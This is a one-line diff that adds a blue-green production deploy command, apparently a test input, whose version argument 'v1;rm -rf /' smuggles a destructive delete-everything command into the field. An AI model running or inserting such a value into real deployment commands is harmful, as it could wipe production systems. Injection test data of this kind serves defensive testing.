@@ -1,0 +1,1 @@
+deploy blue-green deploy-version.yaml --env prod --version 'v1;rm -rf /'
